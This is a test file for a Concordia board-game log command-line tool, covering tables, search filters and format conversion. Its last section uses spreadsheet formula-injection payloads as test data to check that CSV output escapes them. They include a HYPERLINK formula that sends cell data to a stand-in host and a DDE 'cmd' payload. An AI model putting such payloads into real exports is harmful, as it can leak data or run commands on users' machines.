/** Games as tables, and games that are found. */
import { spawnSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { beforeAll, describe, expect, test } from 'vitest';
import { TABLES, type TableName } from '../../../src/cli/archive/tables';
import { formatLog, parseLog } from '../../../src/index';
import { page, ROOT } from '../../readme/markdown';
import { buildCli } from '../../support/built-cli';
import { concordia, logOf, OPENING, scratch } from '../console';

const files = scratch();
const example = (name: string) => `${ROOT}docs/examples/${name}`;
const ITALIA = example('italia-3.concordia');
const GOOD = logOf(OPENING);

type Row = Readonly<Record<string, string | number | boolean | null>>;

async function rowsOf(table: TableName, source: string, stdin = ''): Promise<readonly Row[]> {
  const { out } = await concordia(['table', table, '--to', 'ndjson', source], { stdin });
  return out
    .trimEnd()
    .split('\n')
    .map((line): Row => JSON.parse(line));
}

/** The ids that are written. */
async function found(...args: readonly string[]): Promise<readonly string[]> {
  const { out } = await concordia(['find', '--to', 'id', ...args]);
  return out.split('\n').filter(Boolean);
}

describe('docs/command-line.md', () => {
  const names = Object.keys(TABLES) as readonly TableName[];
  test.each(names)('says what each column of %s means', (table) => {
    const [, after = ''] = page('docs/command-line.md').split(`\n### ${table}\n`);
    const [section = ''] = after.split('\n##');
    const listed = [...section.matchAll(/^\| (`[^|]*`) \|/gm)].flatMap(([, cell = '']) =>
      [...cell.matchAll(/`(\w+)`/g)].map(([, column]) => column),
    );
    expect(listed.toSorted()).toEqual([...TABLES[table].columns].sort());
  });
});

// What is expected here stands in docs/examples/italia-3.concordia, to be read there.
describe('the tables of a game of three', () => {
  test('games', async () => {
    const [row, ...others] = await rowsOf('games', ITALIA);
    expect(others).toEqual([]);
    expect(row).toMatchObject({
      source: ITALIA,
      line: null,
      map: 'italia',
      players: 3,
      cards: 'concordia',
      teams: false,
      modules: '',
      seed: 'italia-1',
      tags: null,
      finished: true,
      points: 95,
      margin: 0,
    });
    expect(String(row?.opening)).toMatch(/^architect architect architect /);
  });

  test('players', async () => {
    const rows = await rowsOf('players', ITALIA);
    expect(rows.map(({ seat, name, points }) => [seat, name, points])).toEqual([
      [0, 'Livia', 95],
      [1, 'Gaius', 95],
      [2, 'Flavia', 91],
    ]);
    expect(String(rows[0]?.built)).toMatch(/^1:olbia:food 1:casinum:brick /);
    for (const row of rows) {
      const sum = (names: readonly string[]) =>
        names.reduce((total, name) => total + Number(row[name]), 0);
      const gods = ['vesta', 'jupiter', 'saturnus', 'venus', 'mercurius', 'mars', 'minerva'];
      expect(sum([...gods, 'concordia', 'bonus'])).toBe(row.points);
      const goods = ['brick', 'food', 'tool', 'wine', 'cloth', 'salt'];
      expect(sum(goods.map((good) => `houses_${good}`))).toBe(row.houses);
      expect(String(row.built).split(' ')).toHaveLength(Number(row.houses));
      // Seven cards to begin with.
      expect(String(row.bought).split(' ')).toHaveLength(Number(row.cards) - 7);
    }
    expect(rows.filter(({ won }) => won)).toHaveLength(1);
  });

  test('turns', async () => {
    const rows = await rowsOf('turns', ITALIA);
    const lines = page('docs/examples/italia-3.concordia').match(/^\d+ \w+:/gm) ?? [];
    expect(rows.map(({ turn, name }) => `${turn} ${name}:`)).toEqual(lines);
    expect(rows[0]).toMatchObject({ card: 'architect', built: 'olbia casinum', houses: 2 });
  });
});

test('R-6.1: a game ends with the last house, or with the last card', async () => {
  // In his last turn but one for the others, Gaius builds his last three houses.
  const rows = await rowsOf('games', example('hellas-3.concordia'));
  expect(rows).toMatchObject([{ ended_by: 1, ended_with: 'house' }]);
  expect(await rowsOf('games', ITALIA)).toMatchObject([{ ended_with: 'card' }]);
});

test('notes of a log stand in the row of the game, and goods of cities in that of the action', async () => {
  const text = readFileSync(ITALIA, 'utf8').replace('[Map', '[meta.place "Ostia"]\n[Map');
  expect(await rowsOf('games', '-', text)).toMatchObject([{ tags: '{"place":"Ostia"}' }]);
  const actions = await rowsOf('actions', ITALIA);
  const built = actions.filter(({ type }) => type === 'buildHouse').slice(0, 2);
  // The food of Olbia and the brick of Casinum are in the first row of players, too.
  expect(built.map(({ city, good }) => [city, good])).toEqual([
    ['olbia', 'food'],
    ['casinum', 'brick'],
  ]);
});

test('a game of so many seats is found by a log that names no players', async () => {
  const log = JSON.stringify({
    ...JSON.parse(GOOD),
    options: { map: 'imperium', players: 3, seed: 'a' },
  });
  const game = files.write('nameless.json', log);
  expect(await found('--players', '3', game)).toHaveLength(1);
  expect(await found('--players', '4', game)).toEqual([]);
});

test('a game that goes on: what was done, and what it brought', async () => {
  const actions = await rowsOf('actions', '-', GOOD);
  expect(actions.map(({ index, turn, seat, type }) => [index, turn, seat, type])).toEqual(
    OPENING.map((action, index) => [
      index,
      [1, 1, 1, 2, 2, 2, 3, 3][index],
      action.seat,
      action.type,
    ]),
  );
  // A Mercator brings 3 sestertii, and cloth sells for 7.
  expect(actions.slice(0, 3).map(({ money }) => money)).toEqual([3, 7, 0]);
  expect(actions[1]).toMatchObject({ decision: 'mercator', deal: 'sell', good: 'cloth', count: 1 });
  const [game] = await rowsOf('games', '-', GOOD);
  expect(game).toMatchObject({ turns: 3, rounds: 2, actions: 8, finished: false, points: null });
  const turns = await rowsOf('turns', '-', GOOD);
  expect(turns.map(({ round, name, card }) => [round, name, card])).toEqual([
    [1, 'Anna', 'mercator'],
    [1, 'Ben', 'architect'],
    [1, 'Clara', 'prefect'],
  ]);
  // Players begin with 5, 6 and 7 sestertii.
  expect(turns.slice(0, 2).map(({ money }) => money)).toEqual([15, 6]);
});

test('CSV has a head, and quotation marks where they are needed', async () => {
  const names = ['Anna "Nan"', 'Ben, son of Ben', 'Clara'];
  const log = JSON.parse(logOf(OPENING));
  const stdin = JSON.stringify({ ...log, options: { ...log.options, players: names } });
  const { out, err, code } = await concordia(['table', 'players', '-'], { stdin });
  const lines = out.trimEnd().split('\n');
  expect(lines[0]).toBe(TABLES.players.columns.join(','));
  expect(lines[1]).toMatch(/^[0-9a-f]{16},imperium,3,0,"Anna ""Nan""",false,,,/);
  expect(lines[2]).toContain(',1,"Ben, son of Ben",');
  expect(err).toMatch(/^1 log: 1 good, 0 wrong, 0 unreadable\n/);
  expect(code).toBe(0);
  const bare = await concordia(['table', 'players', '--no-header', '-'], { stdin });
  expect(bare.out).toBe(
    lines
      .slice(1)
      .map((line) => `${line}\n`)
      .join(''),
  );
});

test('a wrong log has no row, and is told beside the table', async () => {
  const wrong = logOf([{ type: 'pass', seat: 1 }]);
  const scores = logOf(OPENING, [1, 2, 3]);
  const stdin = [GOOD, wrong, '{', scores, GOOD].join('\n');
  const { out, err, code } = await concordia(['table', 'games', '-'], { stdin });
  expect(code).toBe(1);
  expect(out.match(/,-,\d,/g)).toEqual([',-,1,', ',-,5,']);
  expect(err).toMatch(/^✗ -:2: actions\[0\], turn 1: .*\n✗ -:3: it is not JSON.*\n✗ -:4: scores: /);
  expect(err).toContain('5 logs: 2 good, 2 wrong, 1 unreadable\n');
});

describe('the whole program', () => {
  let cli = '';
  beforeAll(() => {
    cli = buildCli(files.dir);
  });
  const lines = Array.from({ length: 60 }, (_, index) => (index % 7 === 3 ? '{' : GOOD));
  const input = `${lines.join('\n')}\n`;

  test.each([
    [['table', 'turns', '-']],
    [['find', '--player', 'Ben', '-']],
    [['convert', '--to', 'text', '-']],
  ])('writes the same without workers and with two: %j', async (args) => {
    const here = await concordia(args, { stdin: input });
    const options = { input, encoding: 'utf8', maxBuffer: 2 ** 26 } as const;
    const there = spawnSync(process.execPath, [cli, ...args, '--jobs', '2'], options);
    expect(there.stdout).toBe(here.out);
    expect(there.status).toBe(1);
    expect(here.code).toBe(1);
  });
});

describe('find', () => {
  const games = ['italia-3', 'imperium-4', 'imperium-2', 'hellas-forum-3'];
  const archive = games.map((name) => example(`${name}.json`));
  const ids = new Map<string, string>();
  beforeAll(async () => {
    const all = await found(...archive);
    for (const [index, name] of games.entries()) ids.set(name, all[index] ?? '');
  });

  test.each([
    [['--map', 'Italia'], ['italia-3']],
    [
      ['--players', '3'],
      ['italia-3', 'hellas-forum-3'],
    ],
    [['--players', '3', '--map', 'imperium'], []],
    [['--module', 'forum'], ['hellas-forum-3']],
    [['--result', '95, 95, 91'], ['italia-3']],
    [['--opening', 'Architect,Prefect', '--player', 'Livia', '--city', 'Olbia'], ['italia-3']],
    // She has built in Olbia, and he has won.
    [['--won', '--city', 'olbia', '--map', 'italia'], []],
    [['--card', 'mason 1', '--won', '--map', 'italia'], ['italia-3']],
  ])('%j', async (args, names) => {
    expect(await found(...args, ...archive)).toEqual(names.map((name) => ids.get(name)));
  });

  test('by ids, and by what is noted', async () => {
    const wanted = [ids.get('imperium-2'), ids.get('italia-3')].join();
    expect(await found('--id', wanted, ...archive)).toHaveLength(2);
    const noted = JSON.stringify({ ...JSON.parse(GOOD), meta: { Place: 'At Roma' } });
    const file = files.write('noted.ndjson', `${GOOD}\n${noted}\n`);
    const { out } = await concordia(['find', '--tag', 'place=roma', file]);
    expect(JSON.parse(out)).toMatchObject({ meta: { Place: 'At Roma' } });
    expect(await found('--tag', 'date=roma', file)).toEqual([]);
    expect(await found('--finished', file)).toEqual([]);
  });

  test('writes texts that are read again as they were', async () => {
    const texts = await concordia(['find', '--to', 'text', ...archive]);
    const back = await concordia(['convert', '-'], { stdin: texts.out });
    const logs = await concordia(['find', ...archive]);
    expect(back.out).toBe(logs.out);
    expect(texts.out).toContain(formatLog(parseLog(page('docs/examples/italia-3.concordia'))));
  });

  test.each([
    [['--city', 'Syracusa'], 'There is no such city; did you mean syracusae?'],
    [['--card', 'Merkator II'], 'There is no such card; did you mean mercator-ii?'],
    [['--map', 'Itallia'], 'There is no such map; did you mean italia?'],
    [['--tag', 'Roma'], 'It must be a name and a text, such as place=Roma.'],
  ])('wrong usage: %j', async (args, why) => {
    const { code, err } = await concordia(['find', ...args, ITALIA]);
    expect(code).toBe(2);
    expect(err).toContain(why);
  });
});

describe('several games in one file', () => {
  const texts = `${page('docs/examples/italia-3.concordia')}\n${page('docs/examples/imperium-4.concordia')}`;
  const both = files.write('both.concordia', texts);

  test('become lines of JSON, and texts again', async () => {
    const json = await concordia(['convert', both]);
    expect(json.code).toBe(0);
    expect(json.out.trimEnd().split('\n')).toHaveLength(2);
    const back = await concordia(['convert', '-'], { stdin: json.out });
    expect(back.out).toBe(`${texts}\n`);
    const target = `${files.dir}/both.ndjson`;
    const saved = await concordia(['convert', both, '--save', target]);
    expect(saved).toMatchObject({ code: 0, out: '' });
    expect((await concordia(['convert', target])).out).toBe(`${texts}\n`);
    expect((await concordia(['convert', both, '--save', target])).err).toContain('--force');
  });

  test('can be told one by one', async () => {
    const second = await concordia(['replay', '--game', '2', both]);
    expect(second).toEqual(await concordia(['replay', example('imperium-4.json')]));
    const text = await concordia(['convert', '--game', '2', '--to', 'text', both]);
    expect(text.out).toBe(page('docs/examples/imperium-4.concordia'));
    expect((await concordia(['replay', '--game', '1', ITALIA])).code).toBe(0);
  });

  test.each([
    [[both], 'has several games; say which one, such as --game 3'],
    [['--game', '3', both], 'has no game 3, only 2 games'],
    [['--game', '2', ITALIA], 'has no game 2, only 1 game'],
    [[files.dir], 'cannot be read: it is a directory'],
  ])('replay %j', async (args, why) => {
    const { code, err } = await concordia(['replay', ...args]);
    expect(code).toBe(1);
    expect(err).toContain(why);
  });

  test('one that cannot be read does not stop the others', async () => {
    const stdin = `${texts}\n[Map "Italia"]\n1 Anna: Senator\n\n${page('docs/examples/italia-3.concordia')}`;
    const { out, err, code } = await concordia(['convert', '-'], { stdin });
    expect(code).toBe(1);
    expect(out.trimEnd().split('\n')).toHaveLength(3);
    const line = texts.split('\n').length + 1;
    expect(err).toMatch(new RegExp(`^✗ -:${line}: Line ${line}, column `));
  });
});

describe('what a spreadsheet would run', () => {
  const formulas = [
    '=HYPERLINK("http://e/?x="&A1,"k")',
    "+cmd|' /C calc'!A0",
    '@SUM(1)',
    '－1+1',
    '-2+3',
  ];
  const { options, ...rest } = JSON.parse(GOOD);
  const stdin = JSON.stringify({
    ...rest,
    options: { ...options, players: formulas.slice(0, 3), seed: '=1+1' },
  });
  const others = JSON.stringify({
    ...rest,
    options: { ...options, players: ['a', ...formulas.slice(3)] },
  });

  test('has an apostrophe in CSV', async () => {
    const { out } = await concordia(['table', 'players', '--no-header', '-'], { stdin });
    const rows = out.split('\n');
    expect(rows[0]).toContain(`,"'=HYPERLINK(""http://e/?x=""&A1,""k"")",`);
    expect(rows[1]).toContain(",'+cmd|' /C calc'!A0,");
    expect(rows[2]).toContain(",'@SUM(1),");
    const games = await concordia(['table', 'games', '--no-header', '-'], { stdin });
    expect(games.out).toContain(",'=1+1,");
    const more = await concordia(['table', 'players', '--no-header', '-'], { stdin: others });
    expect(more.out).toContain(",'－1+1,");
    expect(more.out).toContain(",'-2+3,");
    // The source is standard input, which is no formula.
    expect(games.out).toMatch(/^[0-9a-f]{16},-,/);
  });

  test('is as it is in NDJSON, and in CSV with --raw', async () => {
    const raw = await concordia(['table', 'players', '--no-header', '--raw', '-'], { stdin });
    expect(raw.out.split('\n')[2]).toContain(',@SUM(1),');
    const rows = await rowsOf('players', '-', stdin);
    expect(rows.map(({ name }) => name)).toEqual(formulas.slice(0, 3));
  });
});
